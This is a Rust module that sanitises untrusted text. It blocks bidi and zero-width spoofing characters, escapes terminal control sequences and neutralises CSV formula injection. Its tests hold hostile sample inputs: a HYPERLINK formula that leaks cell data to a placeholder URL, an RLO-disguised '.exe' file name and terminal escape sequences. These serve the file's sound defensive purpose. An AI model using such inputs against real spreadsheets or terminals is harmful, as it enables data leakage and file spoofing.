//! Text from strangers, shown safely: the characters that make a name look
//! like something it is not, and cells that a spreadsheet would run.
//!
//! - [`spoofing`]: the invisible characters a naming field refuses (bidi
//!   embeddings, overrides and isolates; zero-width spaces; line and
//!   paragraph separators). `fields` refuses them in every short text of a
//!   file and of the store, so no name the app shows carries one.
//! - [`escape`]: text that was never checked (a file name found on disk,
//!   a path) as it is printed: every control, bidi and invisible character
//!   written as `<U+202E>`, so that a terminal runs no escape and a reader
//!   sees what is there.
//! - [`terminal`]: what the command line prints, with every control
//!   character but line feed and tab written out, so that no file name or
//!   message can send a terminal an escape sequence.
//! - [`csv_cell`]: a CSV cell that a spreadsheet would read as a formula
//!   (`=`, `+`, `-`, `@`, tab, carriage return) made plain text with a
//!   leading apostrophe, as OWASP recommends; plain numbers are kept.
//! - [`sentence`]: a clause made to start a sentence (its first letter
//!   capitalised), for the reasons the score writes in the middle of a
//!   sentence and the faces show on their own.
//!
//! docs/safety.md says which is used where, and why.

use std::borrow::Cow;

/// Whether `c` is an invisible character refused in names: a bidi
/// embedding, override or isolate (U+202A to U+202E, U+2066 to U+2069), a
/// zero-width space, word joiner or byte order mark (U+200B, U+2060,
/// U+FEFF), an invisible operator (U+2061 to U+2064), the Mongolian vowel
/// separator (U+180E), or a line or paragraph separator (U+2028, U+2029).
///
/// The joiners (U+200C, U+200D) and the implicit direction marks (U+200E,
/// U+200F, U+061C) are allowed: Persian, Indic scripts, emoji and mixed
/// right-to-left names need them, and they cannot reorder a name.
pub fn spoofing(c: char) -> bool {
    matches!(
        c,
        '\u{202A}'..='\u{202E}'
            | '\u{2066}'..='\u{2069}'
            | '\u{200B}'
            | '\u{2060}'..='\u{2064}'
            | '\u{FEFF}'
            | '\u{180E}'
            | '\u{2028}'
            | '\u{2029}'
    )
}

/// Whether `c` is not shown as itself when printed: a control character,
/// one of [`spoofing`], a joiner or a direction mark.
pub fn invisible(c: char) -> bool {
    c.is_control() || spoofing(c) || matches!(c, '\u{200C}'..='\u{200F}' | '\u{061C}')
}

/// `c` as a message names it: "U+202E (RIGHT-TO-LEFT OVERRIDE)".
pub fn describe(c: char) -> String {
    let name = match c {
        '\u{202A}' => "LEFT-TO-RIGHT EMBEDDING",
        '\u{202B}' => "RIGHT-TO-LEFT EMBEDDING",
        '\u{202C}' => "POP DIRECTIONAL FORMATTING",
        '\u{202D}' => "LEFT-TO-RIGHT OVERRIDE",
        '\u{202E}' => "RIGHT-TO-LEFT OVERRIDE",
        '\u{2066}' => "LEFT-TO-RIGHT ISOLATE",
        '\u{2067}' => "RIGHT-TO-LEFT ISOLATE",
        '\u{2068}' => "FIRST STRONG ISOLATE",
        '\u{2069}' => "POP DIRECTIONAL ISOLATE",
        '\u{200B}' => "ZERO WIDTH SPACE",
        '\u{200C}' => "ZERO WIDTH NON-JOINER",
        '\u{200D}' => "ZERO WIDTH JOINER",
        '\u{200E}' => "LEFT-TO-RIGHT MARK",
        '\u{200F}' => "RIGHT-TO-LEFT MARK",
        '\u{2060}' => "WORD JOINER",
        '\u{FEFF}' => "ZERO WIDTH NO-BREAK SPACE",
        '\u{2028}' => "LINE SEPARATOR",
        '\u{2029}' => "PARAGRAPH SEPARATOR",
        _ => "",
    };
    if name.is_empty() {
        format!("U+{:04X}", u32::from(c))
    } else {
        format!("U+{:04X} ({name})", u32::from(c))
    }
}

/// `s` with every [`invisible`] character written as `<U+XXXX>`, for text
/// that no field check has seen (file names, paths) where it is printed.
pub fn escape(s: &str) -> Cow<'_, str> {
    if !s.chars().any(invisible) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len().saturating_add(16));
    for c in s.chars() {
        if invisible(c) {
            out.push_str(&format!("<U+{:04X}>", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// `s` as a terminal should print it: control characters other than line
/// feed and tab (a terminal would run them as escapes) and the characters
/// of [`spoofing`] written as `<U+XXXX>`; everything else as it is.
pub fn terminal(s: &str) -> Cow<'_, str> {
    let shown = |c: char| (c.is_control() && c != '\n' && c != '\t') || spoofing(c);
    if !s.chars().any(shown) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len().saturating_add(16));
    for c in s.chars() {
        if shown(c) {
            out.push_str(&format!("<U+{:04X}>", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Whether `s` is a plain decimal number: `-?[0-9]+(\.[0-9]+)?`.
fn plain_number(s: &str) -> bool {
    let digits = s.strip_prefix('-').unwrap_or(s);
    let (int, frac) = match digits.split_once('.') {
        Some((i, f)) => (i, Some(f)),
        None => (digits, None),
    };
    let all = |p: &str| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit());
    all(int) && frac.is_none_or(all)
}

/// A CSV cell that no spreadsheet runs as a formula: a text starting with
/// `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
/// apostrophe, unless it is a plain number ("-2.5" stays a number).
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    let risky = s
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    if risky && !plain_number(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// A clause made to start a sentence: its first letter capitalised.
pub fn sentence(text: &str) -> String {
    let mut chars = text.chars();
    match chars.next() {
        Some(first) => first.to_uppercase().chain(chars).collect(),
        None => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_made_text_and_numbers_kept() {
        for (cell, shown) in [
            ("=1+2", "'=1+2"),
            ("+SUM(A1:A3)", "'+SUM(A1:A3)"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("-2+3", "'-2+3"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            (
                "=HYPERLINK(\"http://x\"&A1,\"Open\")",
                "'=HYPERLINK(\"http://x\"&A1,\"Open\")",
            ),
            ("-2", "-2"),
            ("-2.50", "-2.50"),
            ("14000.00", "14000.00"),
            ("Local jobs", "Local jobs"),
            ("", ""),
            ("-", "'-"),
            ("- bullet", "'- bullet"),
        ] {
            assert_eq!(csv_cell(cell), shown, "{cell:?}");
        }
    }

    #[test]
    fn invisible_characters_are_written_out() {
        assert_eq!(escape("plain"), "plain");
        assert_eq!(escape("a\u{1b}[31mb"), "a<U+001B>[31mb");
        assert_eq!(escape("\u{202E}gpj.exe"), "<U+202E>gpj.exe");
        assert_eq!(escape("Ac\u{200B}me"), "Ac<U+200B>me");
        assert_eq!(describe('\u{202E}'), "U+202E (RIGHT-TO-LEFT OVERRIDE)");
        assert_eq!(
            terminal("a\n\tb\u{1b}]0;x\u{7}"),
            "a\n\tb<U+001B>]0;x<U+0007>"
        );
        assert_eq!(terminal("Caf\u{e9} \u{200D}"), "Caf\u{e9} \u{200D}");
        assert!(spoofing('\u{2067}') && !spoofing('\u{200D}') && !spoofing('a'));
    }
}
